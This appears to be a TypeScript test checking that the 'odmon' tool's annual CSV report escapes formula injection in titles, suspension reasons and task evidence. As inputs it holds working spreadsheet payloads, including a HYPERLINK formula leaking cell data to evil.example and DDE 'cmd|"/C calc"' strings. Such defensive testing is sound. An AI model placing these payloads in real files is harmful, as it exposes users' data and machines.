/**
 * Formula injection: a register title, a suspension basis or a task's evidence that a spreadsheet would read as
 * a formula (`=`, `+`, `-`, `@`, a tab or a carriage return at the start) must reach the yearly report's CSV as
 * text, with OWASP's leading `'`, whoever typed it. Checked on what `odmon report annual --format csv` prints.
 */
import { parseCsvWithHeader } from '../../src/csv/read';
import { DATASET_COLUMNS, WORLD_DATASETS, importRows, kyiv, useWorlds } from '../exemptions/world';

const worlds = useWorlds('csv-injection');

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Натисніть тут")';
const FORMULA_START = /^[=+\-@\t\r]/;

describe('odmon report annual --format csv', () => {
  it('neutralises every cell a spreadsheet would run, from titles, --basis and --evidence', async () => {
    const w = worlds.open();
    const at = kyiv('2019-07-02T09:00');
    importRows(
      w.app,
      'datasets',
      DATASET_COLUMNS,
      [
        ...WORLD_DATASETS,
        ['f-eq', HYPERLINK, 'finance', 'once a month', '2019-06-20', 'yes', '', ''],
        ['f-plus', '+380522000000 телефонний довідник', 'finance', 'once a month', '2019-06-20', 'yes', '', ''],
        ['f-minus', '-2+3 бюджетні зміни', 'finance', 'once a month', '2019-06-20', 'yes', '', ''],
        ['f-at', '@SUM(1+1)*cmd|"/C calc"!A0', 'finance', 'once a month', '2019-06-20', 'yes', '', ''],
        ['f-tab', 'Табуляція', 'finance', 'once a month', '2019-06-20', 'yes', '', ''],
        ['f-cr', 'Повернення каретки', 'finance', 'once a month', '2019-06-20', 'yes', '', ''],
      ],
      at,
    );
    // A tab or a CR at the start does not survive a CSV import (it is trimmed); the portal or an older odmon may
    // still have stored one, so those two titles are written as such a source would leave them.
    w.app.db.prepare("UPDATE datasets SET title = char(9) || '=1+1 табуляція' WHERE id = 'f-tab'").run();
    w.app.db.prepare("UPDATE datasets SET title = char(13) || '=1+1 повернення' WHERE id = 'f-cr'").run();
    expect((await w.odmon(['suspend', 'shelters', '--basis', '=cmd|"/C calc"!A0', '--review-by', '2019-12-31'], at)).code).toBe(0);
    expect((await w.odmon(['task', 'done', 'm.1', '--at', '2019-07-01', '--evidence', '@SUM(A1:A9) наказ № 12'], at)).code).toBe(0);

    const r = await w.odmon(['report', 'annual', '--year', '2019', '--format', 'csv'], kyiv('2020-01-15T10:00'));
    expect(r.code).toBe(0);
    const csv = parseCsvWithHeader(r.out, ';');
    const byKey = (key: string): Record<string, string> => {
      const row = csv.rows.map((x) => x.values).find((x) => x.key === key);
      if (row === undefined) throw new Error(`no row ${key}`);
      return row;
    };
    expect(byKey('f-eq').title).toBe(`'${HYPERLINK}`);
    expect(byKey('f-plus').title).toBe(`'+380522000000 телефонний довідник`);
    expect(byKey('f-minus').title).toBe(`'-2+3 бюджетні зміни`);
    expect(byKey('f-at').title).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    expect(byKey('f-tab').title).toBe(`'\t=1+1 табуляція`);
    expect(byKey('f-cr').title).toBe(`'\r=1+1 повернення`);
    expect(byKey('shelters').title).toBe('Укриття');
    const suspension = csv.rows.map((x) => x.values).find((x) => x.section === 'suspension');
    expect(suspension?.details).toBe(`'=cmd|"/C calc"!A0`);
    expect(byKey('m.1').details).toBe(`II квартал 2019 року | Фінансове управління | @SUM(A1:A9) наказ № 12`);

    // No cell anywhere starts a formula, except plain numbers.
    const cells = csv.rows.flatMap((x) => Object.values(x.values));
    expect(cells.filter((c) => FORMULA_START.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });
});
